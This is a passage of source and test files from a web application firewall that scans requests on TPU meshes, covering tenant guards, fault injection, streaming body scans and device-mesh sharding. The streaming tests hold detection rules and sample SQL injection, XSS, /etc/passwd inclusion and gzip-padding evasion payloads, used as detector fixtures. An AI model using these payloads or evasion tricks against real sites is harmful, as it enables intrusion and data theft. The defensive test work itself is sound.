        assert "guard: policy=prefilter_only" in out
        assert "top offenders" in out
    finally:
        b.close()


def test_guard_off_surfaces(cr):
    b = _mk_batcher(cr, tenant_guard="off")
    serve = ServeLoop(b, "/tmp/ipt-tenant-test2.sock")
    try:
        assert b.tenant_guard is None
        [f.result(timeout=60) for f in
         [b.submit(r) for r in _reqs(4, tag="off")]]
        st, _ct, body = asyncio.run(
            serve._route_http("GET", "/tenants", b""))
        tj = json.loads(body)
        assert not tj["enabled"] and tj["guard"] is None
        assert "DISABLED" in render_tenants(tj)
        text = serve._metrics_text()
        assert "ipt_tenant_tracked" not in text
        # fairness (and its depth gauge) is guard-independent
        assert "# TYPE ipt_tenant_queue_depth gauge" in text
    finally:
        b.close()


# ------------------------------------------- tenant-targeted faults

def test_fault_tenant_targeting_invisibility_and_determinism():
    plan = FaultPlan.from_spec("slow_confirm:tenant=1,times=2")
    faults.install(plan)
    try:
        rule = plan.rules["slow_confirm"]
        assert rule.tenant == 1
        # no tenant stamped: invisible — neither counts nor fires
        assert plan.fire("slow_confirm") is None
        assert plan.arrivals["slow_confirm"] == 0
        faults.set_current_tenant(0)
        assert plan.fire("slow_confirm") is None     # wrong tenant
        assert plan.arrivals["slow_confirm"] == 0
        faults.set_current_tenant(1)
        assert plan.fire("slow_confirm") is not None
        assert plan.fire("slow_confirm") is not None
        assert plan.fire("slow_confirm") is None     # times exhausted
        assert plan.arrivals["slow_confirm"] == 3
        snap = plan.snapshot()
        assert snap["rules"][0]["tenant"] == 1
        assert faults.tenant_targeted("slow_confirm")
        assert not faults.tenant_targeted("dispatch_hang")
    finally:
        faults.set_current_tenant(None)
        faults.clear()
    assert not faults.tenant_targeted("slow_confirm")


def test_fault_tenant_targeted_slow_confirm_hits_one_tenant(cr):
    """e2e: a tenant-targeted slow_confirm fires only while the target
    tenant's confirm walks run — other tenants' requests are invisible
    to the rule (the lane=/worker= contract, tenant dimension)."""
    plan = FaultPlan.from_spec(
        "slow_confirm:tenant=5,times=2,delay_s=0.2")
    faults.install(plan)
    p = DetectionPipeline(cr, mode="block")
    p.detect(_reqs(4, tag="warm"))          # warm shapes, no fires
    assert plan.fired["slow_confirm"] == 0
    t0 = time.perf_counter()
    p.detect(_reqs(2, attack_every=1, tag="v", tenant=0))
    fast = time.perf_counter() - t0
    assert plan.fired["slow_confirm"] == 0
    t0 = time.perf_counter()
    p.detect(_reqs(2, attack_every=1, tag="h", tenant=5))
    slow = time.perf_counter() - t0
    assert plan.fired["slow_confirm"] == 2
    assert slow > fast + 0.3    # two 0.2s per-request fires landed


def test_fault_spec_rejects_unknown_arg():
    with pytest.raises(ValueError):
        FaultPlan.from_spec("slow_confirm:tennant=1")
