"""Streaming body scan (benchmark config #5): incremental-normalizer
equivalence, chunk-boundary factor matching via carried NFA state,
batcher streaming API, and one-shot↔streaming verdict parity."""

import numpy as np
import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.batcher import Batcher
from ingress_plus_tpu.serve.normalize import Request, variant_chain
from ingress_plus_tpu.serve.stream import IncrementalVariant, StreamEngine

RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,t:htmlEntityDecode,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|REQUEST_BODY "@rx /etc/passwd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""


@pytest.fixture(scope="module")
def pipeline():
    return DetectionPipeline(compile_ruleset(parse_seclang(RULES)),
                             mode="block")


# ------------------------------------------------- incremental decoders

@pytest.mark.parametrize("variant", [0, 1, 2, 3, 4])
@pytest.mark.parametrize("payload", [
    b"hello%20world%u0041&lt;script&gt;alert(1)",
    b"a=1%2",                      # trailing incomplete escape
    b"x&#x3C;script&#62;y&amp",    # entities, one unterminated
    b"%75nion%20%73elect a from b",
    b"plain ascii only",
    b"&#none;&bogus;%zz%",         # junk escapes must pass through
])
def test_incremental_variant_equivalence(variant, payload):
    # every split point must reproduce the one-shot normalization
    for cut in range(len(payload) + 1):
        inc = IncrementalVariant(variant)
        got = inc.feed(payload[:cut]) + inc.feed(payload[cut:]) + inc.flush()
        assert got == variant_chain(payload, variant), \
            (variant, cut, payload)


def test_incremental_variant_many_chunks():
    payload = (b"a%3Cscript%3E" * 50) + b"&lt;" * 30 + b"%u0041%4"
    for variant in range(5):
        inc = IncrementalVariant(variant)
        got = b"".join(inc.feed(payload[i : i + 7])
                       for i in range(0, len(payload), 7)) + inc.flush()
        assert got == variant_chain(payload, variant)


# ------------------------------------------- engine chunk-boundary scan

def test_stream_engine_boundary_spanning_match(pipeline):
    eng = StreamEngine(pipeline)
    st = eng.begin(Request(uri="/upload", request_id="s1"))
    st.base_hits = np.zeros((pipeline.ruleset.n_rules,), bool)
    # split "union select" across three chunks mid-factor
    eng.scan(st.feed(b"x=1 unio"))
    eng.scan(st.feed(b"n sel"))
    eng.scan(st.feed(b"ect secret from t"))
    eng.scan(st.flush())
    v = eng.finish(st)
    assert v.attack and 942100 in v.rule_ids


def test_stream_engine_split_urlencoded_payload(pipeline):
    eng = StreamEngine(pipeline)
    st = eng.begin(Request(uri="/u", request_id="s2"))
    st.base_hits = np.zeros((pipeline.ruleset.n_rules,), bool)
    # %3Cscript%3E split INSIDE an escape: decoded variant must still hit
    whole = b"a=%3Cscri%70t%3E alert"
    eng.scan(st.feed(whole[:6]))   # "a=%3Cs" — cuts nothing
    eng.scan(st.feed(whole[6:11]))  # cuts inside %70
    eng.scan(st.feed(whole[11:]))
    eng.scan(st.flush())
    v = eng.finish(st)
    assert v.attack and 941100 in v.rule_ids


def test_stream_engine_clean_body_no_hits(pipeline):
    eng = StreamEngine(pipeline)
    st = eng.begin(Request(uri="/ok", request_id="s3"))
    st.base_hits = np.zeros((pipeline.ruleset.n_rules,), bool)
    for chunk in (b"perfectly ", b"normal ", b"form data " * 100):
        eng.scan(st.feed(chunk))
    eng.scan(st.flush())
    v = eng.finish(st)
    assert not v.attack and not v.rule_ids


def test_stream_engine_uri_hits_merge_with_body(pipeline):
    # attack in URI (base prefilter), clean body: verdict must carry it
    eng = StreamEngine(pipeline)
    req = Request(uri="/dl?f=/etc/passwd", request_id="s4")
    st = eng.begin(req)
    st.base_hits = pipeline.prefilter([req])[0]
    eng.scan(st.feed(b"clean body"))
    eng.scan(st.flush())
    v = eng.finish(st)
    assert v.attack and 930120 in v.rule_ids


# ------------------------------------------------------- batcher path

@pytest.fixture()
def batcher(pipeline):
    b = Batcher(pipeline, max_batch=32, max_delay_s=0.001)
    yield b
    b.close()


def test_batcher_stream_roundtrip(batcher):
    h = batcher.begin_stream(Request(uri="/post", request_id="b1"))
    batcher.feed_chunk(h, b"1 uni")
    batcher.feed_chunk(h, b"on se")
    batcher.feed_chunk(h, b"lect 2")
    v = batcher.finish_stream(h).result(timeout=60)
    assert v.attack and v.blocked and 942100 in v.rule_ids
    assert batcher.stats.streams == 1
    assert batcher.stats.stream_chunks == 3


def test_batcher_stream_interleaved_with_requests(batcher):
    h = batcher.begin_stream(Request(uri="/post", request_id="b2"))
    batcher.feed_chunk(h, b"nothing here ")
    fut_req = batcher.submit(Request(uri="/q?a=1+union+select+2",
                                     request_id="b3"))
    batcher.feed_chunk(h, b"still clean")
    v_stream = batcher.finish_stream(h).result(timeout=60)
    v_req = fut_req.result(timeout=60)
    assert not v_stream.attack
    assert v_req.attack


def test_batcher_stream_parity_with_oneshot(batcher, pipeline):
    """Streaming a body in arbitrary chunks == sending it whole."""
    body = (b"user=bob&bio=" + b"x" * 300
            + b" 1' union select tok from s --" + b"y" * 200)
    whole = pipeline.detect(
        [Request(uri="/form", body=body, request_id="w")])[0]
    h = batcher.begin_stream(Request(uri="/form", request_id="c"))
    for i in range(0, len(body), 37):
        batcher.feed_chunk(h, body[i : i + 37])
    chunked = batcher.finish_stream(h).result(timeout=60)
    assert chunked.attack == whole.attack
    assert set(chunked.rule_ids) == set(whole.rule_ids)
    assert chunked.score == whole.score


def test_stream_scan_cap_flags_fail_open(pipeline):
    """Bytes past scan_cap pass unscanned but the verdict is flagged
    (pass-and-flag, never a silent miss)."""
    eng = StreamEngine(pipeline)
    st = eng.begin(Request(uri="/big", request_id="cap1"))
    st.base_hits = np.zeros((pipeline.ruleset.n_rules,), bool)
    st.scan_cap = 64
    eng.scan(st.feed(b"A" * 64))
    eng.scan(st.feed(b"1 union select 2"))  # beyond the scan bound
    eng.scan(st.flush())
    v = eng.finish(st)
    assert not v.attack
    assert v.fail_open  # truncation surfaced
    assert st.truncated


def test_stream_scan_dedup_shares_rows(pipeline):
    """Plain-ASCII increments are identical across variants → the scan
    groups them into one device row (and stays correct)."""
    eng = StreamEngine(pipeline)
    st = eng.begin(Request(uri="/d", request_id="d1"))
    st.base_hits = np.zeros((pipeline.ruleset.n_rules,), bool)
    items = st.feed(b"plain ascii no escapes")
    # all variants produced an increment; states identical pre-scan
    eng.scan(items)
    states = {st.state[vi].tobytes() for vi in range(len(st.variants))}
    # raw/urldec/urldec_html identical; squash variants identical to each
    # other (whitespace removed) — at most 2 distinct state vectors
    assert len(states) <= 2
    eng.scan(st.feed(b" 1 union sele"))
    eng.scan(st.feed(b"ct 2 "))
    eng.scan(st.flush())
    v = eng.finish(st)
    assert v.attack and 942100 in v.rule_ids


def test_batcher_stream_abort_resolves_nothing(batcher):
    h = batcher.begin_stream(Request(uri="/gone", request_id="b4"))
    batcher.feed_chunk(h, b"data")
    batcher.abort_stream(h)
    # no finish — state must simply be skipped without error
    fut = batcher.submit(Request(uri="/after", request_id="b5"))
    assert not fut.result(timeout=60).attack


def test_oversized_body_auto_routed_to_stream(batcher):
    """A 1MB padded-prefix attack body submitted on the NON-streaming API
    must be caught (no silent 16KB truncation): Batcher.submit reroutes
    it through the StreamEngine."""
    body = b"A" * (1 << 20) + b" 1' union select password from users --"
    v = batcher.submit(Request(method="POST", uri="/upload", body=body,
                               request_id="big")).result(timeout=120)
    assert v.attack and v.blocked and 942100 in v.rule_ids
    assert batcher.stats.oversized_rerouted == 1


def test_small_gzip_bomb_pad_auto_routed(batcher):
    """A <16KB gzip body inflating to ~1MB with the attack at the end —
    the zip-pad evasion — must also reroute and be caught."""
    import gzip

    raw = b"B" * (1 << 20) + b" 1' union select password from users --"
    comp = gzip.compress(raw)
    assert len(comp) < 16384
    v = batcher.submit(Request(method="POST", uri="/upload", body=comp,
                               headers={"Content-Encoding": "gzip"},
                               request_id="zip")).result(timeout=120)
    assert v.attack and v.blocked and 942100 in v.rule_ids
    assert batcher.stats.oversized_rerouted == 1
