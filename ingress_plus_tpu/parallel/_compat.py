"""jax version compatibility for the parallel plane.

``shard_map`` graduated from ``jax.experimental.shard_map`` to the top
level, and its replication-check kwarg was renamed ``check_rep`` →
``check_vma`` along the way.  The sharded engines target the new
spelling; this shim adapts older jax installs (the container toolchain
pins one, CI another) instead of failing at import — the whole
mesh/dcn test family errored at collection on the old-jax containers
before this existed.
"""

from __future__ import annotations

try:
    from jax import shard_map as _shard_map  # type: ignore[attr-defined]

    _RENAME = None
except ImportError:   # pre-0.5 jax: experimental namespace, old kwarg
    from jax.experimental.shard_map import (  # type: ignore[assignment]
        shard_map as _shard_map,
    )

    _RENAME = ("check_vma", "check_rep")


def shard_map(*args, **kw):
    if _RENAME is not None and _RENAME[0] in kw:
        kw[_RENAME[1]] = kw.pop(_RENAME[0])
    return _shard_map(*args, **kw)
