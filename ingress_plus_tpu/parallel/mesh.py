"""Mesh construction helpers.

One physical mesh, two logical axes:
  ``data``  — request-batch sharding (DP)
  ``model`` — bitap-word / ruleset sharding (TP; also carries the EP
              tenant-shard placement and the SP sequence split when a
              giant body is scanned cooperatively)

On a single host this maps onto ICI (v5e-8: 2×4); multi-host meshes get the
DCN dimension outermost, exactly the hybrid the scaling playbook
prescribes (data-parallel over DCN, model-parallel over ICI).
"""

from __future__ import annotations

from typing import Optional, Sequence, Tuple

import jax
import numpy as np
from jax.sharding import Mesh


def make_mesh(
    n_data: Optional[int] = None,
    n_model: Optional[int] = None,
    devices: Optional[Sequence[jax.Device]] = None,
) -> Mesh:
    """Build a ("data", "model") mesh over the available devices.

    Defaults: all devices on the model axis if the ruleset is large
    (scan cost scales with words), i.e. n_data=1; pass explicit split for
    throughput-oriented DP layouts.
    """
    devices = list(devices if devices is not None else jax.devices())
    n = len(devices)
    if n_data is None and n_model is None:
        n_data, n_model = 1, n
    elif n_data is None:
        n_data = n // n_model
    elif n_model is None:
        n_model = n // n_data
    if n_data * n_model != n:
        raise ValueError("mesh %dx%d != %d devices" % (n_data, n_model, n))
    arr = np.asarray(devices).reshape(n_data, n_model)
    return Mesh(arr, axis_names=("data", "model"))


def mesh_shape(mesh: Mesh) -> Tuple[int, int]:
    return mesh.shape["data"], mesh.shape["model"]
