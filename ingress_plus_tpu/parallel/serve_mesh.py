"""Serve the multi-chip detection step behind the single-chip engine API.

``MeshEngine`` adapts ShardedEngine (DP×TP over a Mesh, shard.py) to the
``DetectionEngine`` interface the serving stack consumes (pipeline
``detect_device`` bucket dispatch, batcher hot-swap, server ``--scan-impl
auto``), so ``serve --mesh data=2,model=4`` runs the SAME deadline
batcher / bucketing / confirm pipeline with the scan spread over a
device mesh.  Reference parity: wallarm scales the data plane by adding
nginx workers/replicas (SURVEY §2.4 DP row); here one serve process
scales across the chips it owns.

Row layout contract: the adapter uses the sharded step's GLOBAL-ROWS
variant (shard.py ``_build_step(global_rows=True)``) — rows ride in
caller order with GLOBAL request ids, the data shards each
segment-reduce their own row slice against all Q segments, and the
per-request partials merge with one psum over the "data" axis.  Row
placement is therefore free, and every jit shape is a pure function of
(B, L, Q) — which is exactly the batcher's seen_shapes/warm_shape
replay contract (a placement-dependent shape would make the hot-swap
pre-compile the wrong executables and stall post-swap traffic on XLA
compiles under the swap lock).

Tenant (EP) masking stays in the PIPELINE (mask_hits), exactly as for
the single-chip engine — the adapter always builds the sharded step with
the trivial all-tenants mask so the two paths cannot diverge on EP
semantics.
"""

from __future__ import annotations

import time
from typing import Optional, Sequence

import jax
import numpy as np

from ingress_plus_tpu.compiler.ruleset import CompiledRuleset
from ingress_plus_tpu.parallel.shard import ShardedEngine
from ingress_plus_tpu.utils.overlap import collect as overlap_collect

try:  # Mesh type only used for annotations / isinstance docs
    from jax.sharding import Mesh
except Exception:  # pragma: no cover
    Mesh = None


def batch_mesh(devices: Optional[Sequence] = None):
    """The data-parallel serve mesh: every local device on one
    ``("batch",)`` axis (docs/MESH_SERVING.md).  Scan rows shard across
    it at request granularity (serve/lanes.py LanePool) with the
    sigpack replicated once per device
    (models/engine.DetectionEngine.tables_for)."""
    from jax.sharding import Mesh as _Mesh

    devs = list(devices) if devices is not None else jax.devices()
    return _Mesh(np.asarray(devs), ("batch",))


def run_lane_measurement(cr: CompiledRuleset, n_lanes: int,
                         n_req: int = 1024, max_batch: int = 64,
                         mode: str = "block",
                         seed: int = 42,
                         tier_warmup: bool = True) -> dict:
    """Measure the LANE-SHARDED serve plane end to end: a real Batcher
    with ``n_lanes`` per-device lanes over the local jax devices, warmed
    then driven with a labeled corpus through the real admission queue.
    Returns ``req_per_s_mesh`` plus per-device utilization — the number
    MULTICHIP graduates to (a smoke test proves the mesh exists; this
    proves what it serves).  Shared by ``bench.py --mesh-point`` and
    ``__graft_entry__.dryrun_multichip`` so the two artifacts can never
    measure different programs."""
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.batcher import Batcher
    from ingress_plus_tpu.utils.corpus import generate_corpus

    devices = jax.devices()
    pipeline = DetectionPipeline(cr, mode=mode)
    # throughput harness: the whole corpus floods the queue at once, so
    # the SLO machinery must stand down — a huge deadline (no queue-math
    # shedding of the backlog) and a queue that fits the corpus.  The
    # serve default keeps its bounded admission; this measures capacity.
    batcher = Batcher(pipeline, max_batch=max_batch,
                      max_delay_s=0.0005, n_lanes=n_lanes,
                      lane_devices=devices,
                      hard_deadline_s=600.0,
                      queue_cap=max(8192, n_req + 16))
    try:
        corpus = generate_corpus(n=n_req, attack_fraction=0.2, seed=seed)
        requests = [lr.request for lr in corpus]
        t_w0 = time.perf_counter()
        # ``tier_warmup=False`` (the bench mesh-scale points on the
        # full CRS pack): skip the exhaustive Q-pad-tier pass — the
        # corpus warm pass below compiles exactly the shapes the
        # measured pass replays, at a fraction of the big pack's tier
        # compile bill
        if tier_warmup and n_lanes > 1:
            batcher.warm_lanes()
        elif tier_warmup:
            # same coverage for the 1-lane baseline point: every Q-pad
            # tier through the single-lane path
            from ingress_plus_tpu.models.pipeline import warm_sizes

            for size in warm_sizes(max_batch):
                pipeline.detect(requests[:size])
            pipeline.reset_detection_observations()
        # one unmeasured pass of the corpus itself: live traffic's
        # bucket mixes differ from the synthetic warm corpus, and a
        # first-pass jit compile inside the measured window would book
        # as mesh throughput (the r03-r05 lesson, per lane now)
        futs = [batcher.submit(r) for r in requests]
        for f in futs:
            f.result(timeout=600)
        warm_s = time.perf_counter() - t_w0
        batcher.reset_latency_observations()
        # measured pass: the full admission→split→scan→confirm→verdict
        # chain, wall-clocked from first submit to last resolved future
        ps = pipeline.stats
        c0, e0, p0 = ps.confirm_us, ps.engine_us, ps.prep_us
        t0 = time.perf_counter()
        futs = [batcher.submit(r) for r in requests]
        verdicts = [f.result(timeout=600) for f in futs]
        wall = time.perf_counter() - t0
        # confirm-stage share of the measured window's pipeline time
        # (docs/CONFIRM_PLANE.md): the serialized-residue gauge the
        # mesh-scale leg warns on — when confirm bounds mesh
        # throughput, more chips cannot help
        d_confirm = ps.confirm_us - c0
        d_stages = d_confirm + (ps.engine_us - e0) + (ps.prep_us - p0)
        confirm_share = (round(d_confirm / d_stages, 4)
                         if d_stages > 0 else None)
        fail_open = sum(1 for v in verdicts if v.fail_open)
        attacks = sum(1 for v in verdicts if v.attack)
        lanes = batcher.lanes.snapshot()
        util = {str(ln["lane"]): (round(ln["busy_us"] / (wall * 1e6), 4)
                                  if wall > 0 else None)
                for ln in lanes}
        return {
            "n_devices": len(devices),
            "n_lanes": n_lanes,
            "requests": n_req,
            "req_per_s_mesh": round(n_req / wall, 1) if wall > 0 else None,
            "wall_s": round(wall, 3),
            "warmup_s": round(warm_s, 1),
            "verdicts": len(verdicts),
            "fail_open": fail_open,
            "attacks": attacks,
            "per_device_utilization": util,
            "per_lane": [{k: ln[k] for k in
                          ("lane", "device", "requests", "rows",
                           "dispatch_fill", "hangs", "errors", "busy_us")}
                         for ln in lanes],
            "serve_time_recompiles": pipeline.stats.engine_compiles,
            "confirm_share": confirm_share,
            "confirm_us": d_confirm,
            "confirm_workers": pipeline.confirm_pool.n_workers,
            # cycle flight recorder (ISSUE 12): the MEASURED overlap
            # structure of this point — scan↔confirm overlap fraction,
            # per-lane idle share, drain occupancy, critical path,
            # serialized-residue ranking (utils/overlap.py); the
            # recorder was reset with the latency observations, so the
            # report describes only the measured pass
            "pipeline_overlap": overlap_collect(batcher),
            "ruleset": {"rules": int(cr.n_rules),
                        "words": int(cr.tables.n_words)},
        }
    finally:
        batcher.close()


def parse_mesh_spec(spec: str, n_devices: Optional[int] = None):
    """'data=2,model=4' (or '2x4') → an actual jax Mesh over the local
    devices.  A total of 0 on either axis is rejected; the product must
    not exceed the device count."""
    spec = spec.strip()
    if "x" in spec and "=" not in spec:
        d, m = spec.split("x", 1)
        n_data, n_model = int(d), int(m)
    else:
        kv = dict(p.split("=", 1) for p in spec.split(","))
        n_data, n_model = int(kv["data"]), int(kv["model"])
    if n_data < 1 or n_model < 1:
        raise ValueError("mesh axes must be >= 1: %r" % spec)
    devs = jax.devices()
    need = n_data * n_model
    if n_devices is not None:
        devs = devs[:n_devices]
    if need > len(devs):
        raise ValueError("mesh %dx%d needs %d devices, have %d"
                         % (n_data, n_model, need, len(devs)))
    arr = np.asarray(devs[:need]).reshape(n_data, n_model)
    from jax.sharding import Mesh as _Mesh
    return _Mesh(arr, ("data", "model"))


class MeshEngine:
    """DetectionEngine-compatible facade over the sharded DP×TP step."""

    #: sharded impls only — the pipeline/server select from these
    SCAN_IMPLS = ShardedEngine.SCAN_IMPLS

    def __init__(self, cr: CompiledRuleset, mesh, scan_impl: str = "pair"):
        if jax.process_count() > 1:
            raise ValueError(
                "MeshEngine serves a SINGLE-host mesh (its dispatch "
                "builds host-local arrays); multi-host batches ride "
                "parallel/dcn.py make_global into ShardedEngine.detect "
                "instead — see tests/test_dcn.py")
        self.ruleset = cr
        self.mesh = mesh
        self._sharded = ShardedEngine(cr, mesh, scan_impl=scan_impl)
        self._tables = None        # lazy single-chip tables (stream path)
        self.pallas_interpret = False

    # ------------------------------------------------ engine API surface

    @property
    def scan_impl(self) -> str:
        return self._sharded.scan_impl

    @scan_impl.setter
    def scan_impl(self, v: str) -> None:
        self._sharded.set_scan_impl(v)

    @property
    def tables(self):
        """Single-chip EngineTables for consumers that scan OUTSIDE the
        mesh step (the streaming-body carry path runs chunk scans
        locally; only whole-batch prefilter rides the mesh)."""
        if self._tables is None:
            from ingress_plus_tpu.models.engine import EngineTables
            self._tables = EngineTables.from_ruleset(self.ruleset)
        return self._tables

    def device_info(self) -> dict:
        """Engine-API twin of DetectionEngine.device_info (served by
        /rules/stats), plus the mesh shape the scan is sharded over."""
        t = self.ruleset.tables
        return {
            "scan_impl": self.scan_impl,
            "n_rules": int(self.ruleset.n_rules),
            "n_factors": int(t.n_factors),
            "n_words": int(t.n_words),
            "max_factor_len": int(t.max_factor_len),
            "mesh": {str(k): int(v)
                     for k, v in self.mesh.shape.items()},
        }

    def swap_ruleset(self, cr: CompiledRuleset) -> None:
        self.ruleset = cr
        self._tables = None
        self._sharded = ShardedEngine(cr, self.mesh,
                                      scan_impl=self.scan_impl)

    def drop_compiled(self) -> None:
        """Engine-API twin of DetectionEngine.drop_compiled (the
        recompile_storm fault site calls it on whatever engine serves):
        forget every compiled executable."""
        import jax

        jax.clear_caches()
        self._tables = None

    def rebuilt(self, cr: CompiledRuleset) -> "MeshEngine":
        """Fresh engine of the SAME kind on a new ruleset (batcher
        hot-swap contract — see DetectionEngine.rebuilt)."""
        eng = MeshEngine(cr, self.mesh, scan_impl=self.scan_impl)
        eng.pallas_interpret = self.pallas_interpret
        return eng

    def autoselect_scan_impl(self, **kw) -> dict:
        """Measure the sharded impls on the live mesh, install the
        winner, and return {impl: seconds} (the server prints it).
        Measures the global-rows step — the variant _dispatch serves
        with — so the bake-off ranks and pre-warms the real program."""
        self._sync_interpret()
        kw.setdefault("global_rows", True)
        self._sharded.autoselect_scan_impl(**kw)
        return dict(getattr(self._sharded, "last_timings", {}))

    # -------------------------------------------------------- dispatch

    def _sync_interpret(self) -> None:
        self._sharded.pallas_interpret = self.pallas_interpret

    def _dispatch(self, tokens, lengths, row_req, row_sv,
                  num_requests: int):
        """One global-rows sharded step; returns the device
        (num_requests, R) rule-hit array plus class/score legs.

        The global-rows step (shard.py _build_step(global_rows=True))
        reduces GLOBAL request ids and psums verdict partials across the
        data axis, so row placement is free: rows ride in caller order,
        the row axis pads to n_data * B_s with B_s a pure function of
        the row count — which makes every jit shape a function of
        (B, L, Q) alone, exactly what the batcher's warm_shape replay
        (seen_shapes contract) pre-compiles."""
        self._sync_interpret()
        eng = self._sharded
        n_data = eng.mesh.shape["data"]
        tokens = np.asarray(tokens)
        lengths = np.asarray(lengths, np.int32)
        row_req = np.asarray(row_req, np.int32)
        row_sv = np.asarray(row_sv, np.int8)

        B = tokens.shape[0]
        B_s = max(8, 1 << int(np.ceil(np.log2(max(1, -(-B // n_data))))))
        L = tokens.shape[1]
        if L % 2:
            L += 1          # pair recurrence consumes byte PAIRS
        tok2 = np.zeros((n_data * B_s, L), tokens.dtype)
        len2 = np.zeros((n_data * B_s,), np.int32)
        # padding rows carry request id 0 — harmless ONLY because their
        # row_sv stays all-zero: `applies` is then false for every rule,
        # so they can never contribute a vote (do not give padding rows
        # a nonzero sv)
        req2 = np.zeros((n_data * B_s,), np.int32)
        sv2 = np.zeros((n_data * B_s, row_sv.shape[1]), np.int8)
        tok2[:B, :tokens.shape[1]] = tokens
        len2[:B] = lengths
        req2[:B] = row_req
        sv2[:B] = row_sv
        # per-REQUEST tenant ids (replicated in the global-rows step);
        # EP masking happens in the pipeline, so the trivial tenant 0
        # rides here
        ten2 = np.zeros((num_requests,), np.int32)
        step = eng._build_step(eng.scan_impl, global_rows=True)
        rh, ch, sc = step(
            jax.numpy.asarray(tok2), jax.numpy.asarray(len2),
            jax.numpy.asarray(req2), jax.numpy.asarray(sv2),
            jax.numpy.asarray(ten2), num_requests=num_requests)
        return rh, ch, sc

    def detect_device(self, tokens, lengths, row_req, row_sv,
                      num_requests: int):
        rh, _, _ = self._dispatch(tokens, lengths, row_req, row_sv,
                                  num_requests)
        return rh

    def detect(self, tokens, lengths, row_req, row_sv, num_requests: int):
        rh, ch, sc = self._dispatch(tokens, lengths, row_req, row_sv,
                                    num_requests)
        return np.asarray(rh), np.asarray(ch), np.asarray(sc)
