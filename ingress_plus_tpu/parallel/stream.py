"""Sequence-parallel streaming scan — the ring-attention analog.

Benchmark config #5: chunked 1MB POST bodies.  Two cooperating modes:

1. **Chunk chaining (single device)** — ops/scan.py already carries
   (state, match) across chunk calls; serve/streaming.py drives it.  The
   carried state is O(words) bits, the moral equivalent of ring
   attention's KV-block handoff but constant-size (SURVEY.md §5).

2. **Sequence sharding (this module)** — a giant body is split along the
   byte axis across the ``model`` mesh axis; every device scans its slice
   *plus a halo of the last H-1 bytes of the previous slice*, where
   H = max factor length ≤ 32.  Because bitap state only ever depends on
   the last (factor_len - 1) bytes, the halo makes each local scan exact:
   matches ending in slice s are found by shard s.  Matches ending inside
   the halo are double-found by the previous shard — harmless, the match
   mask is a sticky OR.  The halo travels over ICI with one ``ppermute``
   (the ring); match masks merge with an all_gather + OR (both tiny).
"""

from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
import numpy as np
from jax.sharding import Mesh, PartitionSpec as P
from ingress_plus_tpu.parallel._compat import shard_map

from ingress_plus_tpu.ops.scan import ScanTables, scan_bytes

HALO = 32  # ≥ max factor length (bitap.WORD_BITS); exactness bound


def ring_scan(tables: ScanTables, mesh: Mesh, tokens, lengths=None,
              axis: str = "model"):
    """Scan (B, L_total) byte rows sequence-sharded along ``axis``.

    tokens must be (B, L_total) with L_total divisible by the axis size.
    ``lengths`` (B,) gives each row's true byte count — rows may be
    RAGGED (a mixed 100KB/1MB batch pads to the widest row without
    scanning the padding, VERDICT r04 item #6): shard ``s`` clips its
    slice to ``clip(len - s*L_local, 0, L_local)`` bytes, so a shard
    past a row's end scans nothing and padding garbage can't match.
    The halo a shard receives is valid whenever it scans at all: a
    positive clipped length means every predecessor slice was full.
    ``lengths=None`` keeps the old full-width contract.
    Returns the merged sticky match mask (B, W), replicated.
    """
    n = mesh.shape[axis]
    B, L_total = tokens.shape
    assert L_total % n == 0, (L_total, n)
    assert L_total // n >= HALO, (
        "per-shard slice %d < HALO %d: the halo would be short and "
        "boundary-spanning matches silently lost — use fewer shards or a "
        "longer body" % (L_total // n, HALO))
    if lengths is None:
        lengths = np.full((B,), L_total, np.int32)

    def block(byte_table, init, final, tok, total_lens):
        # tok: (B, L_local) slice of the body; total_lens: (B,) replicated
        idx = jax.lax.axis_index(axis)
        # ring: receive the last HALO bytes of the previous shard
        halo_src = tok[:, -HALO:]
        perm = [(i, (i + 1) % n) for i in range(n)]
        halo = jax.lax.ppermute(halo_src, axis, perm)

        L_local = tok.shape[1]
        # this shard's share of each row: 0 when the row ended earlier
        eff = jnp.clip(total_lens - idx * L_local, 0, L_local)
        eff = eff.astype(jnp.int32)
        # shard 0 has no predecessor; zero bytes would FALSELY match rules
        # with \x00 in their classes, so instead shard 0 scans its chunk
        # left-aligned with masked suffix padding (same static shape).
        ext_mid = jnp.concatenate([halo, tok], axis=1)
        ext_zero = jnp.concatenate([tok, jnp.zeros_like(halo)], axis=1)
        ext = jnp.where(idx == 0, ext_zero, ext_mid)
        lens = jnp.where(
            idx == 0, eff,
            jnp.where(eff > 0, eff + HALO, 0),
        )

        class _T:
            n_words = byte_table.shape[1]
        t = _T()
        t.byte_table, t.init_mask, t.final_mask = byte_table, init, final
        t.byte_planes = None
        match, _ = scan_bytes(t, ext, lens, gather="take")

        # merge sticky masks: all_gather along the ring + OR-reduce
        all_m = jax.lax.all_gather(match, axis)          # (n, B, W)
        merged = all_m[0]
        for i in range(1, n):
            merged = merged | all_m[i]
        return merged

    fn = shard_map(
        block, mesh=mesh,
        in_specs=(P(None, None), P(None), P(None), P(None, axis), P(None)),
        out_specs=P(None, None),
        check_vma=False,
    )
    return fn(tables.byte_table, tables.init_mask, tables.final_mask,
              jnp.asarray(tokens, jnp.int32),
              jnp.asarray(lengths, jnp.int32))
