"""Device-mesh parallelism (SURVEY.md §2.4 — first-class components).

Mapping from the reference's process-level concurrency to mesh axes:

| Strategy | Reference (nginx/Wallarm)            | Here                       |
|----------|--------------------------------------|----------------------------|
| DP       | N worker processes, SO_REUSEPORT     | batch rows sharded on the
|          |                                      | ``data`` mesh axis         |
| TP       | —                                    | bitap words (ruleset dim)
|          |                                      | sharded on ``model``; the
|          |                                      | scan is word-local, only
|          |                                      | the factor→rule vote needs
|          |                                      | a psum over ICI            |
| EP       | per-Ingress rule subsets             | tenant→rule masks applied
|          |                                      | to the shared superset NFA
|          |                                      | (no recompile per tenant)  |
